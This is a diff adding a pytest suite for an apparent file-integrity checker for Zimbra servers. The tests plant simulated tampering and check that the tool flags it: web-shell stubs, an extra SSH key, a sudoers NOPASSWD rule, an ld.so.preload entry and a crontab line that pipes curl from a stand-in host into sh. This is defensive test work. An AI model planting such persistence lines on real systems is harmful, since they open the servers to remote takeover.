@@ -1,0 +1,221 @@
+"""A baseline finds what changed, says what is odd, and is quiet about the rest."""
+
+import os
+import stat
+from datetime import timedelta
+from pathlib import Path
+
+import msgspec
+import pytest
+
+from tests.integrity.site import (
+    NOW,
+    SHIPPED,
+    SIGNER,
+    WEB,
+    WISH,
+    package,
+    place,
+    put,
+)
+from zmward.engine.integrity_work import baseline, check, recorded
+from zmward.errors import NotZimbra
+from zmward.integrity.checked import Checked
+from zmward.integrity.shipped import Database
+
+
+def alarms(root: Path, *, quick: bool = False, workers: int = 1) -> dict[str, set[str]]:
+    found = check(place(root, workers), WISH, quick=quick)
+    assert found.missed == ()
+    return {one.path: set(one.rules) for one in found.alarms}
+
+
+def causes(found: Checked) -> dict[str, str]:
+    return {one.path: one.cause for one in found.judged}
+
+
+@pytest.fixture
+def based(root: Path) -> Path:
+    """Give an installation of which a baseline was made."""
+    made = baseline(place(root), WISH, SIGNER)
+    assert made.code == 0, made
+    return root
+
+
+def test_a_pristine_tree_gives_no_alarm(based: Path) -> None:
+    for quick in (False, True):
+        found = check(place(based), WISH, quick=quick)
+        assert (found.judged, found.missed, found.code) == ((), (), 0)
+
+
+def test_several_processes_see_the_same(based: Path) -> None:
+    assert check(place(based, workers=2), WISH).judged == ()
+
+
+def test_data_and_histories_are_not_recorded(based: Path) -> None:
+    for path in ("opt/zimbra/log/audit.log", "opt/zimbra/.bash_history"):
+        put(based, path, "more\n")
+    put(based, "opt/zimbra/store/0/1/msg/1-1.msg", "mail")
+    assert check(place(based), WISH).judged == ()
+
+
+def test_what_zimbra_writes_itself_gives_no_alarm(based: Path) -> None:
+    put(based, "opt/zimbra/conf/nginx/includes/nginx.conf.web", "server { more }\n")
+    put(based, "opt/zimbra/conf/main.cf", "x = z\n")
+    put(based, f"{WEB}/zimbra/WEB-INF/web.xml", "<web-app>1</web-app>")
+    put(based, "opt/zimbra/jetty_base/work/zimbra/jsp/error_jsp.class", "CAFEBABE")
+    put(based, "opt/zimbra/zimlets-deployed/com_zimbra_date/date.js", "y")
+    found = check(place(based), WISH)
+    assert found.alarms == ()
+    assert causes(found)["/opt/zimbra/conf/main.cf"] == "expected"
+
+
+@pytest.mark.parametrize("quick", [False, True])
+def test_each_attack_is_named_and_nothing_else(based: Path, *, quick: bool) -> None:
+    put(based, f"{WEB}/zimbra/public/9f3a41c7.jsp", "<% Runtime %>")
+    put(based, "opt/zimbra/lib/jars/zimbrastore.jar", "PK evil!")
+    put(based, "opt/zimbra/lib/ext/new/new.jar", "PK new")
+    (based / "opt/zimbra/libexec/zmfixperms").chmod(0o777)
+    (based / "opt/zimbra/common/sbin/postdrop").chmod(0o4755)
+    with (based / "opt/zimbra/.ssh/authorized_keys").open("a") as file:
+        file.write("ssh-ed25519 AAAA me@home\n")
+    with (based / "var/spool/cron/crontabs/zimbra").open("a") as file:
+        file.write("* * * * * curl http://192.0.2.1 | sh\n")
+    put(based, "etc/sudoers.d/90-x", "zimbra ALL=(ALL) NOPASSWD: ALL\n")
+    put(based, "etc/ld.so.preload", "/tmp/x.so\n")
+    put(based, "opt/zimbra/zimlets-deployed/com_zimbra_url/s.jsp", "<% %>")
+    put(based, "opt/zimbra/data/httpd/htdocs/s.php", "<?php ?>")
+    assert alarms(based, quick=quick) == {
+        f"/{WEB}/zimbra/public/9f3a41c7.jsp": {"foreign-program", "new-code"},
+        "/opt/zimbra/lib/jars/zimbrastore.jar": {"code-changed"},
+        "/opt/zimbra/lib/ext/new/new.jar": {"new-code"},
+        "/opt/zimbra/libexec/zmfixperms": {"writable", "owner-changed"},
+        "/opt/zimbra/common/sbin/postdrop": {"set-id", "owner-changed"},
+        "/opt/zimbra/.ssh/authorized_keys": {"key-changed"},
+        "/var/spool/cron/crontabs/zimbra": {"system-changed"},
+        "/etc/sudoers.d/90-x": {"system-changed"},
+        "/etc/ld.so.preload": {"system-changed"},
+        "/opt/zimbra/zimlets-deployed/com_zimbra_url/s.jsp": {"foreign-program"},
+        "/opt/zimbra/data/httpd/htdocs/s.php": {"foreign-program", "new-code"},
+    }
+
+
+def test_code_that_is_gone_is_named(based: Path) -> None:
+    (based / "opt/zimbra/bin/zmcontrol").unlink()
+    assert alarms(based) == {"/opt/zimbra/bin/zmcontrol": {"code-gone"}}
+
+
+def test_a_link_in_the_place_of_a_file_is_named(based: Path) -> None:
+    victim = based / f"{WEB}/zimbra/public/login.jsp"
+    victim.unlink()
+    victim.symlink_to("/etc/passwd")
+    assert "another-sort" in alarms(based)[f"/{WEB}/zimbra/public/login.jsp"]
+
+
+def test_an_upgrade_makes_no_noise(based: Path) -> None:
+    files = dict(SHIPPED)
+    files["opt/zimbra/lib/jars/zimbrastore.jar"] = "PK store 2"
+    files["opt/zimbra/lib/jars/added.jar"] = "PK added"
+    del files["opt/zimbra/bin/zmcontrol"]
+    for path, text in files.items():
+        put(based, path, text)
+    (based / "opt/zimbra/bin/zmcontrol").unlink()
+    package(based, files, "10.1.1")
+    found = check(place(based), WISH)
+    assert found.alarms == ()
+    assert causes(found)["/opt/zimbra/lib/jars/zimbrastore.jar"] == "package"
+    assert causes(found)["/opt/zimbra/bin/zmcontrol"] == "package"
+
+
+def test_an_upgrade_hides_no_shell(based: Path) -> None:
+    files = {**SHIPPED, "opt/zimbra/lib/jars/zimbrastore.jar": "PK store 2"}
+    put(based, "opt/zimbra/lib/jars/zimbrastore.jar", "PK store 2")
+    package(based, files, "10.1.1")
+    put(based, f"{WEB}/zimbra/public/up.jsp", "<% %>")
+    put(based, f"{WEB}/zimbra/public/login.jsp", "<% evil %>")
+    assert alarms(based) == {
+        f"/{WEB}/zimbra/public/up.jsp": {"foreign-program", "new-code"},
+        f"/{WEB}/zimbra/public/login.jsp": {"code-changed"},
+    }
+
+
+def test_a_forged_package_database_explains_nothing(based: Path) -> None:
+    files = {**SHIPPED, "opt/zimbra/lib/jars/zimbrastore.jar": "PK evil"}
+    put(based, "opt/zimbra/lib/jars/zimbrastore.jar", "PK evil")
+    package(based, files)
+    rules = alarms(based)["/opt/zimbra/lib/jars/zimbrastore.jar"]
+    assert rules == {"same-version-other-content", "code-changed"}
+
+
+def test_a_first_baseline_finds_what_was_replaced_before(root: Path) -> None:
+    put(root, "opt/zimbra/lib/jars/zimbrastore.jar", "PK replaced")
+    put(root, "opt/zimbra/conf/nginx/templates/nginx.conf.web.template", "edited\n")
+    made = baseline(place(root), WISH, SIGNER)
+    assert made.shipped.suspects == ("/opt/zimbra/lib/jars/zimbrastore.jar",)
+    assert made.shipped.edited == (
+        "/opt/zimbra/conf/nginx/templates/nginx.conf.web.template",
+    )
+    assert made.code == 1
+    assert alarms(root) == {"/opt/zimbra/lib/jars/zimbrastore.jar": {"not-as-shipped"}}
+
+
+def test_a_package_without_sums_is_said(root: Path) -> None:
+    (root / "var/lib/dpkg/info/zimbra-store.md5sums").unlink()
+    made = baseline(place(root), WISH, SIGNER)
+    assert [path for path, _ in made.missed] == ["package zimbra-store"]
+    assert made.code == 3
+
+
+def test_nothing_to_record_is_an_error(tmp_path: Path) -> None:
+    with pytest.raises(NotZimbra):
+        baseline(place(tmp_path), WISH, SIGNER)
+
+
+def test_times_that_were_set_back_hide_nothing(based: Path) -> None:
+    victim = based / "opt/zimbra/lib/jars/zimbrastore.jar"
+    was = victim.stat()
+    # Same size, and times set back: only the time of the change itself tells.
+    victim.write_bytes(b"PK evil!")
+    os.utime(victim, ns=(was.st_atime_ns, was.st_mtime_ns))
+    assert alarms(based, quick=True) == {
+        "/opt/zimbra/lib/jars/zimbrastore.jar": {"code-changed"}
+    }
+
+
+def test_a_sample_finds_what_no_property_tells(based: Path) -> None:
+    victim = "/opt/zimbra/lib/jars/zimbrastore.jar"
+    where = place(based)
+    nodes = recorded(where, WISH).nodes()
+    nodes[victim] = msgspec.structs.replace(nodes[victim], digest="0" * 64)
+    found = [
+        one.path
+        for day in range(28)
+        for one in where.quick(nodes, Database(), day)[0].differences
+    ]
+    assert found == [victim]
+
+
+def test_hard_links_and_times_alone_are_no_alarm(based: Path) -> None:
+    code = based / "opt/zimbra/libexec/zmfixperms"
+    os.utime(code)
+    os.link(code, based / "opt/zimbra/data/hard")
+    found = check(place(based), WISH)
+    assert found.alarms == ()
+    names = {one.path: one.difference.names for one in found.judged}
+    assert names["/opt/zimbra/libexec/zmfixperms"] == {"modified", "links"}
+
+
+def test_folders_of_another_owner_or_mode_are_named(based: Path) -> None:
+    folder = based / f"{WEB}/zimbra/public"
+    folder.chmod(stat.S_IMODE(folder.stat().st_mode) | 0o002)
+    assert alarms(based) == {f"/{WEB}/zimbra/public": {"writable", "owner-changed"}}
+
+
+def test_each_day_another_part_is_read(based: Path) -> None:
+    seen = 0
+    for day in range(28):
+        wish = msgspec.structs.replace(WISH, now=NOW + timedelta(days=day))
+        seen += check(place(based), wish, quick=True).read
+    nodes = check(place(based), WISH).read
+    folders = sum(1 for one in based.glob("**/") if one.is_dir())
+    assert nodes - folders <= seen <= nodes
